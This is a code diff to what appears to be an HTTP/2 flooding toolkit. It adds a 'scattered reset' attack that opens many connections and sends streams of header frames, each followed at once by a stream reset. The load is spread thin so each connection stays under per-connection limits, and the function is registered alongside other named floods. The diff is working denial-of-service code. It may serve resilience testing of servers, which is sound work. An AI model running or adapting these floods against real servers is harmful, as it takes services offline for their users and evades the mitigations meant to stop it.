@@ -1,6 +1,7 @@
 """Attackers over HTTP/2: connections that begin well and then send one kind of frame without end (RFC 9113 §10.5)."""
 
 import contextlib
+import socket
 from collections.abc import Callable, Iterator
 from threading import Event
 
@@ -17,7 +18,7 @@ from hyperframe.frame import (
     WindowUpdateFrame,
 )
 
-from floods.attacks import Attack, Target, connect, going_on, send
+from floods.attacks import CONNECTIONS, Attack, Target, connect, going_on, send
 
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 # Streams of one connection; then another is opened.
@@ -126,8 +127,29 @@ def no_window(port: int, target: Target, stop: Event) -> int:
     return asked
 
 
+def scattered_reset(port: int, target: Target, stop: Event) -> int:
+    """Rapid reset over many connections, a little on each, which stays within what one may send."""
+    fields, sent = block(target), 0
+    with contextlib.ExitStack() as all_:
+        held: list[socket.socket] = []
+        for count in going_on(stop):
+            while len(held) < CONNECTIONS and not stop.is_set():
+                try:
+                    held.append(all_.enter_context(connect(port)))
+                    held[-1].sendall(PREFACE + SettingsFrame(0).serialize())
+                except OSError:
+                    break
+            first = 1 + 20 * count
+            pairs = b"".join(headers(stream, fields, "END_HEADERS", "END_STREAM") +
+                             RstStreamFrame(stream, error_code=8).serialize() for stream in range(first, first + 20, 2))
+            held = [connection for connection in held if send(connection, pairs)]
+            sent += len(held)
+    return sent
+
+
 ATTACKS: dict[str, Attack] = {
     "rapid reset": flood(rapid_reset),
+    "scattered reset": scattered_reset,
     "made to reset": flood(made_to_reset),
     "continuation": flood(continuation),
     "empty continuation": flood(empty_continuation),
